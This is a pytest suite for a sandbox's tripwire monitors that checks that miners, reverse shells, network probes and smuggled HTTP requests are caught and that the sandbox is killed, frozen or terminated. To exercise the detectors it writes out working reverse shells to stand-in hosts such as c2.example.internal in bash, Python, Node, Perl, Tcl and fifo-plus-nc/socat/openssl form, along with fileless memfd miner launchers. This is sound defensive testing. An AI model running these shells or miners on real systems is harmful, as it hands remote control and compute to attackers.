"""Tripwires in real sandboxes: the process monitor, the resource monitor, and each response.

The scenario corpus (test_scenarios.py) shows the verdicts on whole attacks; these tests pin the
mechanisms one at a time: what is seen, when, and what each response does to the sandbox.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from corral import (
    Alert,
    ExecResult,
    HostError,
    Policy,
    PolicyError,
    ProcExec,
    ProcExit,
    Sandbox,
    SandboxClosedError,
)
from corral.monitors import process as pm
from corral.monitors import resource
from corral.monitors.gpu import GpuMonitor
from fakenvml import FakeNvml
from helpers import own_host, tripwire_policy, wait_until
from servers import LocalUpstream, http_server, package_index, tcp_listener, tls_listener

pytestmark = pytest.mark.root

C2 = "c2.example.internal"


def net_policy(port: int, **tripwires: Any) -> Policy:
    return Policy.from_dict(
        {
            "version": 1,
            "network": {
                # A policy that wrongly lets the agent reach a listener: the tripwires still see it.
                "egress": [{"host": C2, "ports": [port], "protocols": ["any"]}],
                "hosts": {C2: "127.0.0.1"},
            },
            "tripwires": tripwires,
        }
    )


def alerts(sb: Sandbox, rule: str | None = None) -> list[Alert]:
    return [a for a in sb.alerts() if rule is None or a.rule == rule]


def execs(sb: Sandbox) -> list[ProcExec]:
    return [e for e in sb.events() if isinstance(e, ProcExec)]


# --- the process monitor --------------------------------------------------------------------------


def test_every_program_start_is_seen_with_its_command_even_millisecond_ones() -> None:
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        r = sb.exec("for i in 1 2 3 4 5; do /bin/true $i; done; sh -c 'exit 3'; echo done", text=True)
        assert r.exit_code == 0 and r.stdout == "done\n"
        trues = [e for e in execs(sb) if e.process.cmdline[:1] == ["/bin/true"]]
        assert [e.process.cmdline[1] for e in trues] == ["1", "2", "3", "4", "5"]
        assert all(e.exec == 1 and e.process.exe == "/usr/bin/true" for e in trues)
        # Host pids, with the sandbox's own pid beside them, and the parent shell as ppid.
        shell = execs(sb)[0]
        assert shell.process.cmdline[0] == "/bin/sh" and shell.process.ns_pid is not None
        assert all(e.process.ppid == shell.process.pid for e in trues)
        assert wait_until(lambda: any(isinstance(e, ProcExit) and e.exit_code == 3 for e in sb.events()))
        # PATH lookups that miss (execvp tries each directory) are not program starts.
        r = sb.exec(["sh", "-c", "PATH=/nowhere:/usr/bin id -u"], text=True)
        assert r.exit_code == 0
        assert [e.process.cmdline[0] for e in execs(sb) if e.exec == 2] == ["sh", "id"]
    assert not sb.alerts()


def test_a_process_keeps_its_command_after_a_double_fork() -> None:
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        first = sb.exec("(setsid sleep 30 &) ; true")
        assert first.exit_code == 0
        [sleeper] = [e for e in execs(sb) if e.process.cmdline == ["sleep", "30"]]
        assert sleeper.exec == 1
        # Left running when its command returned: reported, not killed (it burns no CPU).
        [linger] = alerts(sb, "left running after the command")
        assert linger.category == "lingering" and linger.exec == 1
        assert "sleep 30" in linger.message
        sb.exec("true")
        # Reparented to init, it still belongs to command 1, not to the command now running.
        assert pm._ppid(sleeper.process.pid) == sb.init_pid
        info = sb._tripwires.table.get(sleeper.process.pid)  # type: ignore[union-attr]
        assert info is not None and info.exec_id == 1


def test_a_miner_named_on_its_command_line_is_killed_before_it_runs() -> None:
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        r = sb.exec(["python3", "-c", "open('/workspace/ran', 'w')", "-o", "stratum+tcp://pool.example:3333"])
        assert r.exit_code == 137
        [a] = alerts(sb, "miner command line")
        assert (a.category, a.action, a.outcome, a.severity) == (
            "mining",
            "kill",
            "killed 1 process",
            "critical",
        )
        assert a.tags.mitre == ["T1496"] and "ASI10" in a.tags.owasp
        assert a.process is not None and a.process.cmdline[0] == "python3"
        assert a.evidence.trigger["type"] == "proc.exec"
        # Killed at its execve: the program never ran a line.
        assert sb.exec("test -e /workspace/ran").exit_code == 1


def test_a_renamed_miner_is_recognised_by_its_content() -> None:
    miner = "#!/bin/sh\n# a miner: sends mining.subscribe to its pool\ntouch /workspace/ran\n"
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        sb.write_file("/tmp/kworker", miner)
        r = sb.exec("chmod +x /tmp/kworker && cp /tmp/kworker /tmp/.cache-updater && /tmp/.cache-updater")
        assert r.exit_code == 137
        [a] = alerts(sb, "miner content")
        assert a.process is not None and a.process.exe == "/tmp/.cache-updater"
        assert sb.exec("test -e /workspace/ran").exit_code == 1
        # A renamed copy of an ordinary program is just that.
        assert sb.exec("cp /bin/true /tmp/kworker2 && /tmp/kworker2").exit_code == 0
        assert len(sb.alerts()) == 1


FILELESS = """
import os, sys
# The marker is assembled at run time: this launcher itself must not read as a miner.
code = b"#!/bin/sh\\n# mining." + b"subscribe\\ntouch /workspace/ran\\n"
if sys.argv[1] == "memfd":  # a fileless miner: its bytes live only in memory
    fd = os.memfd_create("kworker", 0)
    os.write(fd, code)
    os.execve(f"/proc/self/fd/{fd}", ["kworker"], {})
else:  # a miner started through one of its own file descriptors
    fd = os.open("/tmp/.m", os.O_RDONLY)
    os.execve(f"/dev/fd/{fd}", ["kworker"], {})
"""


@pytest.mark.parametrize("how", ["memfd", "devfd"])
def test_a_miner_run_from_a_file_descriptor_is_recognised(how: str) -> None:
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        sb.write_file("/tmp/.m", "#!/bin/sh\n# mining.subscribe\ntouch /workspace/ran\n")
        sb.write_file("fileless.py", FILELESS)
        r = sb.exec(f"chmod +x /tmp/.m && python3 fileless.py {how}")
        assert r.exit_code == 137, r
        [a] = alerts(sb, "miner content")
        assert a.process is not None and a.process.cmdline == ["kworker"]
        assert a.process.exe is not None
        assert a.process.exe.startswith("/memfd:kworker" if how == "memfd" else "/tmp/.m"), a.process.exe
        assert sb.exec("test -e /workspace/ran").exit_code == 1


def test_an_execve_the_monitor_cannot_read_is_refused_and_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
    def unreadable(pid: int, syscall: str, args: tuple[int, ...]) -> tuple[str, list[str], int | None]:
        raise PermissionError(13, "Permission denied")

    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        with monkeypatch.context() as m:
            m.setattr(pm, "read_exec_call", unreadable)
            r = sb.exec(["true"])
        assert r.exit_code != 0, r
        [d] = [e for e in r.denials if e.what in ("execve", "execveat")]
        assert d.layer == "seccomp" and "could not read" in d.detail
        assert sb.exec(["true"]).exit_code == 0


def test_the_policy_decides_the_response() -> None:
    with Sandbox(tripwire_policy(responses={"mining": "alert"}), keep_workspace=False) as sb:
        r = sb.exec(["python3", "-c", "open('/workspace/ran', 'w')", "stratum+tcp://pool.example:3333"])
        assert r.exit_code == 0
        [a] = alerts(sb, "miner command line")
        assert (a.action, a.outcome) == ("alert", "recorded")
        assert sb.exec("test -e /workspace/ran").exit_code == 0


# --- the resource monitor -------------------------------------------------------------------------


def test_cpu_burnt_after_the_command_returned_is_killed_within_seconds() -> None:
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        r = sb.exec("nohup python3 -c 'while True: pass' >/dev/null 2>&1 &")
        returned = time.monotonic()
        assert r.exit_code == 0
        assert wait_until(lambda: bool(alerts(sb, "cpu burnt outside a command")), timeout=10)
        caught = time.monotonic() - returned
        [a] = alerts(sb, "cpu burnt outside a command")
        assert (a.category, a.action, a.outcome) == ("mining", "kill", "killed 1 process")
        assert a.evidence.trigger["proc.cpu"] >= 0.5 and a.evidence.trigger["proc.in_command"] is False
        assert wait_until(lambda: sb.pids() == [sb.init_pid])
        # The target is 2 s from start to kill on an idle machine (make bench measures it); a test
        # sharing two cores with others gets slack.
        assert caught < 6, caught


def test_heavy_work_inside_a_running_command_is_not_flagged() -> None:
    with Sandbox(Policy.from_dict({"version": 1, "resources": {"cpu": 2}}), keep_workspace=False) as sb:
        r = sb.exec("python3 -c 'import time\nt = time.time()\nwhile time.time() - t < 2.5: pass'")
        assert r.exit_code == 0
        assert not sb.alerts()


def test_resource_samples_are_recorded_while_processes_run() -> None:
    with Sandbox(tripwire_policy(sample_interval=0.1), keep_workspace=False) as sb:
        sb.exec("python3 -c 'import time\nt = time.time()\nwhile time.time() - t < 5.5: pass'")
        samples = [e for e in sb.events() if e.type == "resource.sample"]
        assert samples, "no resource.sample in 5.5 s"
        assert samples[-1].top and samples[-1].top[0].cmdline[0] == "python3" and samples[-1].top[0].cpu > 0.3


def test_gpu_use_by_a_sandbox_without_a_grant_is_killed() -> None:
    # No GPU here: a fake NVML reports the sandbox's process on GPU 0, as the real one would.
    nvml = FakeNvml()
    gpu = nvml.add_device()
    with (
        own_host(sampler=resource.Sampler(GpuMonitor(nvml))) as host,
        Sandbox(tripwire_policy(), keep_workspace=False, host=host) as sb,
    ):
        results: list[ExecResult] = []
        runner = threading.Thread(target=lambda: results.append(sb.exec(["sleep", "30"])))
        runner.start()

        def on_gpu() -> bool:
            pids = [p for p in sb.pids() if p != sb.init_pid]
            for p in pids:
                gpu.add_process(p, sm=90)
            nvml.tick()
            return bool(pids)

        assert wait_until(on_gpu)
        runner.join(20)
        assert results and results[0].exit_code == 137
        [a] = alerts(sb, "gpu without a grant")
        assert (a.category, a.action) == ("mining", "kill")
        assert (
            a.evidence.trigger["gpu.index"] == 0
            and a.process is not None
            and a.process.cmdline == ["sleep", "30"]
        )


# --- responses to network tripwires -----------------------------------------------------------------


def test_a_reverse_shell_terminates_the_sandbox() -> None:
    with tcp_listener() as c2:
        up = LocalUpstream({4444: c2.port})
        with Sandbox(net_policy(4444), keep_workspace=False, upstream=up) as sb:
            r = sb.exec(f"bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'", timeout=20)
            assert r.terminated == "tripwire", r
            assert sb.closed
            [a] = alerts(sb, "reverse shell command line")
            assert (a.category, a.action, a.outcome) == ("reverse_shell", "terminate", "sandbox terminating")
            [stop] = [e for e in sb.events() if e.type == "sandbox.stop"]
            assert stop.reason == "tripwire"
            with pytest.raises(SandboxClosedError):
                sb.exec("true")


REVERSE_SHELL = """
import socket, subprocess, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
if sys.argv[3] == "socket":
    subprocess.run(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
else:  # a shell on pipes, relayed by this process: no socket on the shell itself
    sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    sh.stdin.write(b"echo relayed\\n"); sh.stdin.close()
    s.sendall(sh.stdout.read())
"""


@pytest.mark.parametrize(
    ("kind", "rule"), [("socket", "shell on a socket"), ("pipes", "shell driven through pipes")]
)
def test_a_shell_wired_to_the_network_is_caught_at_its_exec(kind: str, rule: str) -> None:
    with tcp_listener() as c2:
        up = LocalUpstream({4444: c2.port})
        with Sandbox(
            net_policy(4444, responses={"reverse_shell": "alert"}), keep_workspace=False, upstream=up
        ) as sb:
            sb.write_file("rs.py", REVERSE_SHELL)
            sb.exec(["python3", "rs.py", C2, "4444", kind], timeout=20)
            [a] = alerts(sb, rule)
            assert a.category == "reverse_shell" and a.process is not None
            assert a.process.cmdline[0] == "/bin/sh"
            # The evidence names who wired it: python3 rs.py, the shell's parent.
            assert any(p.cmdline[:2] == ["python3", "rs.py"] for p in a.evidence.processes)


# Reverse shells wired after the shell's execve, under a policy that lets the agent reach the
# listener: only the tripwires stand between it and a working shell. The greeting is the attacker's
# first command; each client waits so that the shell starts before its relay has connected.
GREETING = b"echo wired-$((6*7))\n"
FIFO = "mkfifo /tmp/f; {shell} </tmp/f 2>&1 | {client} >/tmp/f"
WIRED_LATER = {
    "fifo nc": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec nc {C2} 4444'"),
    "fifo ncat": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec ncat {C2} 4444'"),
    "fifo socat": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec socat - TCP:{C2}:4444'"),
    "fifo python as the shell": FIFO.format(
        shell="python3 -i", client=f"sh -c 'sleep 0.5; exec nc {C2} 4444'"
    ),
    "fifo openssl": FIFO.format(
        shell="sh -i", client=f"sh -c 'sleep 0.5; exec openssl s_client -quiet -connect {C2}:4444'"
    ),
    "fifo ncat --ssl": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec ncat --ssl {C2} 4444'"),
    "node": "node rs.js",
    "python": "python3 rs.py",
    "perl": "perl rs.pl",
    "tcl": "tclsh rs.tcl",
    "perl on its own socket": "perl own.pl",
}
SCRIPTS = {
    # child_process gives the shell socketpairs for stdio; the connection comes after the spawn.
    "rs.js": f"""
const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
setTimeout(() => {{
  const c = net.connect(4444, "{C2}", () => {{ c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }});
}}, 500);
""",
    "rs.py": f"""
import socket, subprocess, threading, time
sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
time.sleep(0.5)
s = socket.create_connection(("{C2}", 4444))
def back():
    while data := sh.stdout.read1(4096):
        s.sendall(data)
threading.Thread(target=back, daemon=True).start()
while data := s.recv(4096):
    sh.stdin.write(data); sh.stdin.flush()
""",
    "rs.pl": f"""
use IPC::Open2; use IO::Socket::INET;
my $pid = open2(my $out, my $in, "/bin/sh");
select(undef, undef, undef, 0.5);
my $c = IO::Socket::INET->new(PeerAddr => "{C2}", PeerPort => 4444) or die "connect: $!";
if (fork()) {{ while (sysread($c, my $b, 4096)) {{ syswrite($in, $b) }} }}
else {{ while (sysread($out, my $b, 4096)) {{ syswrite($c, $b) }} }}
""",
    "rs.tcl": f"""
set sh [open "|/bin/sh 2>@1" r+]
after 500
set s [socket {C2} 4444]
fconfigure $sh -blocking 0 -buffering none
fconfigure $s -blocking 0 -buffering none
fileevent $s readable {{ if {{[eof $s]}} {{ exit }}; puts -nonewline $sh [read $s] }}
fileevent $sh readable {{ if {{[eof $sh]}} {{ exit }}; puts -nonewline $s [read $sh] }}
vwait forever
""",
    # No shell at all: the interpreter moves its own stdin and stdout onto the connection and
    # evaluates what arrives (the greeting's arithmetic is perl too).
    "own.pl": f"""
use IO::Socket::INET;
select(undef, undef, undef, 0.5);
my $c = IO::Socket::INET->new(PeerAddr => "{C2}", PeerPort => 4444) or die "connect: $!";
open(STDIN, "<&", $c); open(STDOUT, ">&", $c); $| = 1;
while (my $line = <STDIN>) {{ print eval($line), "\n"; }}
""",
}
WIRED_RULES = ("shell relayed to the network after it started", "shell wired to a socket after it started")


@pytest.mark.parametrize("kind", list(WIRED_LATER))
def test_a_shell_wired_to_the_network_after_its_exec_terminates_the_sandbox(kind: str) -> None:
    tls = "openssl" in kind or "--ssl" in kind
    listener = tls_listener(C2, GREETING) if tls else tcp_listener(GREETING)
    with listener as c2:
        up = LocalUpstream({4444: c2.port})
        with Sandbox(net_policy(4444), keep_workspace=False, upstream=up) as sb:
            for name, text in SCRIPTS.items():
                sb.write_file(name, text)
            started = time.monotonic()
            r = sb.exec(WIRED_LATER[kind], timeout=20)
            assert r.terminated == "tripwire", (r, [a.rule for a in sb.alerts()])
            assert sb.closed
            [a] = [a for a in sb.alerts() if a.category == "reverse_shell"]
            assert a.rule in WIRED_RULES and a.action == "terminate", a
            # Within a second or so of the wiring (0.5 s after the start here), on a shared machine.
            assert time.monotonic() - started < 5
            assert a.evidence.trigger["evt.type"] == "proc.sample"
            assert a.evidence.trigger["proc.stdin_net"] in ("socket", "relay")


def test_benign_pipes_next_to_connections_are_not_a_reverse_shell(tmp_path: Path) -> None:
    # pip's way of building a package: a child interpreter with pipes both ways to a parent that
    # holds a connection; the child runs a named script, so it is not a shell taking orders.
    child = "import sys, time\ntime.sleep(1)\nsys.stdout.write(sys.stdin.read().upper())\n"
    parent = f"""
import socket, subprocess, sys
s = socket.create_connection(("{C2}", 4444))
p = subprocess.run([sys.executable, "child.py"], input=b"built", capture_output=True)
print(p.stdout.decode())
"""
    index_name = "packages.example.internal"
    with tcp_listener(b"echo ran\n") as c2, package_index(tmp_path / "index") as index:
        up = LocalUpstream({4444: c2.port, 80: index.port})
        pol = Policy.from_dict(
            {
                "version": 1,
                "network": {
                    "egress": [
                        {"host": C2, "ports": [4444], "protocols": ["any"]},
                        {"host": index_name, "ports": [80], "protocols": ["http"]},
                    ],
                    "hosts": {C2: "127.0.0.1", index_name: "127.0.0.1"},
                },
            }
        )
        with Sandbox(pol, keep_workspace=False, upstream=up) as sb:
            sb.write_file("child.py", child)
            sb.write_file("parent.py", parent)
            r = sb.exec("python3 parent.py", timeout=20, text=True)
            assert r.exit_code == 0 and r.stdout == "BUILT\n", r
            # curl URL | sh: a download run, its output going to the caller, not back to the network
            # (the connection stays open for a few samples). Then an interpreter reading a download.
            r = sb.exec(f"timeout 1.5 nc --recv-only {C2} 4444 | sh", timeout=20, text=True)
            assert not r.terminated and r.stdout == "ran\n", r
            # The same with the download connected before the shell's exec.
            r = sb.exec(f"timeout 1.5 nc --recv-only {C2} 4444 | (sleep 0.5; exec sh)", timeout=20, text=True)
            assert not r.terminated and r.stdout == "ran\n", r
            r = sb.exec(
                f"timeout 1.5 nc --recv-only {C2} 4444 | python3 -c 'import sys; print(sys.stdin.read())'"
            )
            assert not r.terminated, r
            # make, its recipes piped through shells, next to a live connection.
            sb.write_file("Makefile", "all:\n\techo one | tr a-z A-Z | cat\n\tsh -c 'sleep 1' | cat\n")
            r = sb.exec(f"timeout 3 nc --recv-only {C2} 4444 >/dev/null & make", timeout=20, text=True)
            assert r.exit_code == 0, r
            r = sb.exec(
                f"python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target /tmp/site "
                f"--trusted-host {index_name} --index-url http://{index_name}/simple/ corral-probe",
                text=True,
                timeout=120,
            )
            assert r.exit_code == 0, r
        assert not [a for a in sb.alerts() if a.category == "reverse_shell"], sb.alerts()


def test_the_wiring_check_follows_pipes_fifos_and_socketpairs_in_the_right_direction(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # On the host, without a sandbox: `relay` holds a connection and the ends given to it.
    relay_code = (
        "import socket, sys, time\n"
        "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
        "fifo = open(sys.argv[2], 'wb') if len(sys.argv) > 2 else None\n"
        "time.sleep(30)\n"
    )
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    procs: list[subprocess.Popen[bytes]] = []

    def spawn(argv: list[str], **kw: Any) -> subprocess.Popen[bytes]:
        procs.append(subprocess.Popen(argv, **kw))
        return procs[-1]

    with tcp_listener() as c2:
        try:
            # A pipe both ways to the relay, as a reverse shell has: its stdin is written by the
            # relay, its stdout read by it.
            a_in, relay_out = os.pipe()
            relay_in, a_out = os.pipe()
            shell = spawn(["sleep", "30"], stdin=a_in, stdout=a_out)
            relay = spawn([sys.executable, "-c", relay_code, str(c2.port)], stdin=relay_in, stdout=relay_out)
            # Siblings writing into one pipe: the other writer's connection is not where output goes.
            sib_r, sib_w = os.pipe()
            writer = spawn(["sleep", "30"], stdout=sib_w)
            networked = spawn([sys.executable, "-c", relay_code, str(c2.port)], stdout=sib_w)
            # A fifo the relay writes into, opened by path: it shows as a path, not pipe:[N].
            fifo_reader = spawn(["sh", "-c", f"exec sleep 30 <{fifo}"])
            spawn([sys.executable, "-c", relay_code, str(c2.port), str(fifo)])
            for fd in (a_in, relay_out, relay_in, a_out, sib_w):
                os.close(fd)
            assert wait_until(lambda: len(c2.connections) == 3, timeout=10)
            pids = [p.pid for p in procs]
            wiring = pm.Wiring(lambda: pids)
            assert (wiring.stdin(shell.pid), wiring.stdout(shell.pid)) == ("relay", "relay")
            assert wiring.stdio(shell.pid)[:2] == ["pipe", "pipe"]
            # The relay's own stdio leads to the shell, which holds no connection.
            assert (wiring.stdin(relay.pid), wiring.stdout(relay.pid)) == ("none", "none")
            assert wiring.stdout(writer.pid) == "none"
            assert wait_until(lambda: pm.Wiring(lambda: pids).stdin(fifo_reader.pid) == "relay")
            assert wiring.stdio(fifo_reader.pid)[0] == "fifo"
            # Under a small per-round budget the fd tables are read in turns: the relay is reached
            # within a few rounds, each round going on where the last stopped.
            monkeypatch.setattr(pm, "WIRING_ROUND_FDS", 4)
            first = pm.Wiring(lambda: pids)
            first.stdin(shell.pid)
            cursor, rounds = first.resume_at, 0
            assert cursor > 0  # cut short
            while rounds < 3 * len(pids):
                w = pm.Wiring(lambda: pids, start=cursor)
                rounds += 1
                if w.stdin(shell.pid) == "relay":
                    break
                cursor = w.resume_at
            assert 1 < rounds < 3 * len(pids), rounds
            monkeypatch.undo()
            # Only processes of the sandbox count: without the relay in the list, nothing leads out.
            alone = pm.Wiring(lambda: [shell.pid])
            assert (alone.stdin(shell.pid), alone.stdout(shell.pid)) == ("none", "none")
            assert networked.poll() is None
            os.close(sib_r)
        finally:
            for p in procs:
                p.kill()
                p.wait()


def test_a_probe_alerts_at_the_first_attempt_with_the_connection_as_evidence() -> None:
    with Sandbox(tripwire_policy(), keep_workspace=False) as sb:
        sb.exec("nc -w 1 10.0.0.5 22", timeout=20)
        [a] = alerts(sb, "internal address")
        assert (a.category, a.action) == ("probe", "alert")
        assert a.evidence.trigger["destination"] == "10.0.0.5" and a.evidence.trigger["decision"] == "deny"
        # The real program behind the alternatives symlink, resolved as the sandbox sees it.
        assert a.process is not None and a.process.exe in (
            "/usr/bin/nc.openbsd",
            "/usr/bin/nc.traditional",
            "/usr/bin/ncat",
        )


_PIPELINED = """
import socket
s = socket.create_connection(("web.example.internal", 80), 5)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: web.example.internal\\r\\n\\r\\n"
          b"GET / HTTP/1.1\\r\\nHost: c2.example.internal\\r\\n\\r\\n")
while s.recv(4096):
    pass
"""


def test_a_request_for_another_host_behind_an_allowed_one_is_caught_at_once() -> None:
    web_name = "web.example.internal"
    with http_server(ignore_close=True) as web:
        p = Policy.from_dict(
            {
                "version": 1,
                "network": {
                    "egress": [{"host": web_name, "ports": [80], "protocols": ["http"]}],
                    "hosts": {web_name: "127.0.0.1"},
                },
            }
        )
        with Sandbox(p, keep_workspace=False, upstream=LocalUpstream({80: web.port})) as sb:
            sb.write_file("pipelined.py", _PIPELINED)
            sb.exec(["python3", "pipelined.py"], timeout=20)
            [a] = alerts(sb, "relayed or fronted request")
            assert (a.category, a.action) == ("tunnel", "kill")
            assert "HTTP Host 'c2.example.internal' does not match" in a.evidence.trigger["reason"]
        assert [r.host for r in web.requests] == [web_name]


def test_freeze_keeps_the_processes_for_inspection() -> None:
    with Sandbox(tripwire_policy(responses={"privilege tool": "freeze"}), keep_workspace=False) as sb:
        r = sb.exec("sleep 60 & sleep 0.2; unshare -n true; echo after")
        assert r.terminated == "frozen" and r.exit_code == 128 + 19, r
        assert r.stdout == b""  # the command stopped where it was: "after" never printed
        assert sb.frozen == "privilege tool" and not sb.closed
        [a] = alerts(sb, "privilege tool")
        assert a.action == "freeze"
        # Everything is still there, stopped.
        pids = sb.pids()
        assert any(pm.cmdline(p) == ["sleep", "60"] for p in pids)
        with pytest.raises(SandboxClosedError, match="frozen by tripwire 'privilege tool'"):
            sb.exec("true")
    assert sb.closed


# --- bad input and the fallbacks -------------------------------------------------------------------


def test_a_bad_rule_file_or_response_name_stops_the_sandbox_from_starting(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("- rule: x\n  desc: d\n  condition: proc.nme = 1\n  severity: high\n  category: mining\n")
    pol = tmp_path / "p.yaml"
    pol.write_text("version: 1\ntripwires:\n  rules: [bad.yaml]\n")
    with pytest.raises(PolicyError, match=r"bad\.yaml: rule 'x': unknown field 'proc\.nme'"):
        Sandbox(Policy.load(pol), keep_workspace=False)
    with pytest.raises(PolicyError, match=r"tripwires\.responses\.minning: no rule or category of that name"):
        Sandbox(tripwire_policy(responses={"minning": "kill"}), keep_workspace=False)


def test_without_process_events_the_sandbox_refuses_to_start_unless_allowed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    broken = pm.Connector()
    broken.error = "process-event connector unavailable (test)"
    with own_host(connector=broken) as host:
        with pytest.raises(HostError, match=r"degrade: \[process_events\]"):
            Sandbox(tripwire_policy(), keep_workspace=False, host=host)
        degraded = Policy.from_dict(
            {"version": 1, "degrade": ["process_events"], "tripwires": {"sample_interval": 0.1}}
        )
        with Sandbox(degraded, keep_workspace=False, host=host) as sb:
            assert sb.events()[0].degraded == ["process_events"]
            sb.exec("sleep 0.5 &")
            # Exits are noticed by the sampler's sweep instead, without a status.
            assert wait_until(
                lambda: any(isinstance(e, ProcExit) and e.cmdline == ["sleep", "0.5"] for e in sb.events())
            )


def test_a_sandbox_stops_when_a_monitor_dies(monkeypatch: pytest.MonkeyPatch) -> None:
    # Fail closed: tripwires that can no longer see must not leave the sandbox running unwatched.
    def crash(self: resource.Sampler) -> None:
        raise RuntimeError("sampler bug")

    monkeypatch.setattr(resource.Sampler, "_loop", crash)
    with own_host(sampler=resource.Sampler()) as host:
        sb = Sandbox(tripwire_policy(), keep_workspace=False, host=host)
        assert wait_until(lambda: any(e.type == "sandbox.stop" for e in sb.events()), timeout=10)
        [stop] = [e for e in sb.events() if e.type == "sandbox.stop"]
        assert (
            stop.reason == "failed" and "resource sampling stopped: RuntimeError('sampler bug')" in stop.error
        )
        sb.close(wait=True)


def test_a_sandbox_stops_when_process_events_stop() -> None:
    sb = Sandbox(tripwire_policy(), keep_workspace=False)
    conn = sb.host.connector
    try:
        table = sb._tripwires.table  # type: ignore[union-attr]
        # What the connector's thread does when its socket fails, for this sandbox's table only.
        assert table.on_monitor_failure is not None
        table.on_monitor_failure("process events stopped: [Errno 9] Bad file descriptor")
        assert wait_until(lambda: any(e.type == "sandbox.stop" for e in sb.events()), timeout=10)
        [stop] = [e for e in sb.events() if e.type == "sandbox.stop"]
        assert stop.reason == "failed" and "process events stopped" in stop.error
    finally:
        sb.close(wait=True)
    assert conn.error is None  # the real connector is untouched


def test_the_cli_prints_the_verdict_and_exits_124_when_a_tripwire_stopped_the_sandbox(tmp_path: Path) -> None:
    pol = tmp_path / "p.yaml"
    pol.write_text("version: 1\n")
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "corral.cli",
            "run",
            "--policy",
            str(pol),
            "--",
            "bash",
            "-c",
            "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.returncode == 124, r.stderr
    assert "corral: verdict:" in r.stderr and "sandbox terminated" in r.stderr
    assert "reverse_shell: reverse shell command line -> terminate" in r.stderr


def test_a_process_with_a_pending_sigkill_counts_as_killed() -> None:
    # A frozen (cgroup v1 freezer) process keeps a SIGKILL pending until thawed: the window in which
    # a killed command's process, not yet run to die, looked like a leftover.
    freezer = Path(f"/sys/fs/cgroup/freezer/corral-test-{os.getpid()}")
    freezer.mkdir()
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        (freezer / "cgroup.procs").write_text(str(sleeper.pid))
        assert not pm.killed(sleeper.pid)
        (freezer / "freezer.state").write_text("FROZEN")
        assert wait_until(lambda: (freezer / "freezer.state").read_text().strip() == "FROZEN")
        os.kill(sleeper.pid, signal.SIGKILL)
        time.sleep(0.1)
        assert sleeper.poll() is None  # still there, frozen
        assert pm.killed(sleeper.pid)
    finally:
        (freezer / "freezer.state").write_text("THAWED")
        sleeper.kill()
        sleeper.wait()
        freezer.rmdir()
